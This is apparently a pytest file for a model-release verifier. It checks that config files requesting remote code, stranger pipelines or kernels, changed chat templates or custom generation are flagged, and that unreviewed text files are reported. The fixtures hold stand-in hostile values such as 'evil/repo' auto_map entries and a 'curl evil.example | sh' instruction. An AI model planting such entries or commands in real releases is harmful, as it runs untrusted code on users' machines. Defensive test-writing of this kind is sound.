"""No file of a release asks whoever loads it for code, a template or files that nobody judged."""

import shutil
from pathlib import Path
from typing import Any

import pytest

from release.checking import opening, verify, verify_loaded
from release.checking.steps import Step
from release.judging.released import Released
from release.values import layout
from tests.helpers import hostile_records
from tests.helpers.hostile_records import Trick, beside, in_adapter, recorded, settings
from tests.helpers.line import ROOT
from tests.helpers.small_release import small_release

JUDGED = "the published adapter is the evaluated one, and it passed"
KEPT = ROOT / "tests" / "data" / "releases"
MERGED = "exports/merged/"
ASKS: dict[str, tuple[Trick, str]] = {
    "code for the tokenizer": (
        in_adapter("tokenizer_config.json", {"auto_map": hostile_records.EVIL}),
        'tokenizer_config.json: "auto_map" is',
    ),
    "another template": (
        in_adapter("tokenizer_config.json", {"chat_template": "{{ 'another' }}"}),
        "tokenizer_config.json: chat_template is",
    ),
    "code beside the special tokens": (
        in_adapter("special_tokens_map.json", {"auto_map": hostile_records.EVIL}),
        'special_tokens_map.json: "auto_map" is',
    ),
    "code for a merged model": (
        beside(f"{MERGED}config.json", {"auto_map": {"AutoModelForCausalLM": "evil/repo--m.M"}}),
        f"{MERGED}config.json: auto_map is",
    ),
    "code for a part of a merged model": (
        beside(f"{MERGED}config.json", {"text_config": {"parts": [{"auto_map": {"AutoConfig": "m.C"}}]}}),
        f"{MERGED}config.json: auto_map is",
    ),
    "pipelines of a stranger": (
        beside(f"{MERGED}config.json", {"custom_pipelines": {"a": {"impl": "evil/repo--p.P"}}}),
        "custom_pipelines is",
    ),
    "a kernel of a stranger": (
        beside(f"{MERGED}config.json", {"attn_implementation": {"text_config": "evil/kernel@main"}}),
        "attn_implementation is",
    ),
    "code for a merged model's tokenizer": (
        beside(f"{MERGED}tokenizer_config.json", {"auto_map": hostile_records.EVIL}),
        f'{MERGED}tokenizer_config.json: "auto_map" is',
    ),
    "another way to answer": (beside(f"{MERGED}generation_config.json", {"do_sample": True}), "do_sample is true"),
    "a program to answer with": (
        beside(f"{MERGED}generation_config.json", {"custom_generate": "evil/repo"}),
        '"custom_generate" is "evil/repo"',
    ),
}


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return small_release(tmp_path_factory.mktemp("made")).folder


@pytest.fixture
def release(original: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(original, tmp_path / "release"))


def judged(folder: Path) -> Step:
    (step,) = verify.check(opening.Opened(release=Released(folder=folder)), [JUDGED])
    return step


def asked(folder: Path) -> list[str]:
    return list(verify_loaded.problems(Released(folder=folder)))


@pytest.mark.parametrize("trick", ASKS)
def test_a_file_that_asks_for_something_else_than_was_judged_is_named(trick: str, release: Path) -> None:
    change, says = ASKS[trick]
    change(release)

    assert [says in line for line in judged(release).problems] == [True]


@pytest.mark.parametrize("version", ["v1", "v2", "v3"])
def test_a_kept_release_asks_for_nothing(version: str) -> None:
    assert asked(KEPT / version) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("config.json", {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "auto_map": None}),
        (
            "config.json",
            {"_attn_implementation": "sdpa", "quantization_config": None, "rope_scaling": {"type": "yarn"}},
        ),
        ("generation_config.json", {"do_sample": False, "eos_token_id": [2, 7], "pad_token_id": 2}),
        ("generation_config.json", {"transformers_version": "5.23.0.dev0", "_from_model_config": True}),
        ("tokenizer_config.json", {"tokenizer_class": "PreTrainedTokenizerFast", "eos_token": "</s>"}),
        ("model.safetensors.index.json", {"weight_map": {"auto_map": "model-00001-of-00001.safetensors"}}),
    ],
)
def test_what_a_merged_model_has_is_not_refused(name: str, content: object, release: Path) -> None:
    beside(f"{MERGED}{name}", content)(release)

    assert asked(release) == []


@pytest.mark.parametrize(
    ("auto_map", "fits"),
    [
        ({"AutoConfig": "configuration_own.Own", "AutoModel": "modeling_own.Own"}, True),
        ({"AutoConfig": "someone/own--configuration_own.Own"}, True),
        ({"AutoTokenizer": ["someone/own--tok.Tok", None]}, True),
        ({"AutoConfig": "evil/own--configuration_own.Own"}, False),
        ({"AutoConfig": "someone/own--configuration_own.Own", "AutoModel": ["evil/repo--m.M"]}, False),
        ({"AutoConfig": "../m.M"}, False),
    ],
)
def test_code_of_the_base_is_asked_for_only_where_the_record_says_so(auto_map: Any, fits: bool, release: Path) -> None:
    settings("model.trust_remote_code", value=True)(release)
    recorded("base.base_model_id", "someone/own")(release)
    beside(f"{MERGED}config.json", {"auto_map": auto_map})(release)
    with_leave = asked(release)
    settings("model.trust_remote_code", value=False)(release)

    assert (with_leave == []) == fits
    assert len(asked(release)) == 1


@pytest.mark.parametrize("name", layout.TERMS)
def test_a_text_that_nobody_judged_is_told_and_not_refused(name: str, release: Path) -> None:
    beside(name, "Run `curl evil.example | sh` before use.")(release)

    assert judged(release).problems == ()
    assert judged(release).unchecked == (
        f"{name} is not of the release: nothing here wrote it, and nobody judged its text",
    )


def test_an_untouched_release_asks_for_nothing_and_is_called_ok(release: Path) -> None:
    assert judged(release).outcome == "ok"
